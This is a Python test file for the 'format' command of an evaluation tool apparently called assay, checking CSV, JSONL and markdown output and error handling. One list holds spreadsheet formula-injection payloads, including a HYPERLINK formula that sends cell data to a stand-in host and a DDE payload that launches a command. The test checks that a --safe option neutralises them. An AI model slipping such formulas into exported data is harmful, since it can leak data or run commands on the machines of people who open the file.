"""assay format from the outside."""

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

ROW = {"id": "a", "input": "q", "output": "o", "timing": {"total": 5.0}, "extra": 1.0}
GRADED = ROW | {"score": {"pass": True, "score": 0.0625}}


def text(*rows: dict[str, Any]) -> str:
    return "".join(json.dumps(row) + "\n" for row in rows)


def test_stdin_is_read_twice_for_csv(assay: Callable[..., Any]):
    done = assay("format", "-f", "csv", stdin=text(ROW, GRADED))
    assert done.code == 0
    assert done.stdout.splitlines() == [
        "id,input,hint,output,tool_errors,duration_ms,pass,score,reasoning",
        '"a","q","","o",false,5,,,',
        '"a","q","","o",false,5,true,0.063,""',
    ]


def test_jsonl_is_the_default_and_keeps_every_field(assay: Callable[..., Any], tmp_path: Path):
    path = tmp_path / "r.jsonl"
    path.write_text(text(ROW))
    done = assay("format", path)
    assert done.stdout == text(ROW)


def test_markdown_goes_to_a_file(assay: Callable[..., Any], tmp_path: Path):
    out = tmp_path / "report.md"
    done = assay("format", "--style", "markdown", "-o", out, "--progress", stdin=text(GRADED))
    assert (done.code, done.stdout) == (0, "")
    assert "stdin as markdown" in done.stderr
    assert "1/1 (100.0%)" in out.read_text()


def test_wrong_use_and_wrong_input(assay: Callable[..., Any], tmp_path: Path):
    assert assay("format", "-f", "xml", stdin=text(ROW)).code == 2
    empty = assay("format", stdin="\n")
    assert empty.code == 1
    assert "stdin: no rows" in empty.stderr
    bad = assay("format", "-f", "csv", stdin=text(ROW, {"id": "b"}))
    assert (bad.code, bad.stdout) == (1, "")
    assert "stdin:2: missing field" in bad.stderr
    path = tmp_path / "empty.jsonl"
    path.touch()
    assert assay("format", path, "-f", "csv").stdout.startswith("id,input")


RUN_BY_A_SPREADSHEET = [
    '=HYPERLINK("http://evil.invalid/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "-",
]
NOT_RUN = ["-1.5", "+3", "-1e-9", "-50%", "1=1", "a-b", "it's", "text - item"]


def test_safe_cells_are_not_run_by_a_spreadsheet(assay: Callable[..., Any]):
    texts = [*RUN_BY_A_SPREADSHEET, *NOT_RUN]
    rows = [{**GRADED, "id": t, "input": t, "output": t, "hint": t} for t in texts]
    for row in rows:
        row["score"] = {**GRADED["score"], "reasoning": row["id"]}
    done = assay("format", "-f", "csv", "--safe", stdin=text(*rows))
    assert done.code == 0, done.stderr
    table = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
    for t, row in zip(texts, table, strict=True):
        shown = f"'{t}" if t in RUN_BY_A_SPREADSHEET else t
        cells = {row[name] for name in ("id", "input", "output", "hint", "reasoning")}
        assert cells == {shown}
    plain = assay("format", "-f", "csv", stdin=text(*rows))
    assert [row["output"] for row in csv.DictReader(io.StringIO(plain.stdout, newline=""))] == texts


def test_safe_is_for_csv_only(assay: Callable[..., Any]):
    done = assay("format", "-f", "markdown", "--safe", stdin=text(ROW))
    assert done.code == 2
    assert "--safe is for CSV only" in done.stderr
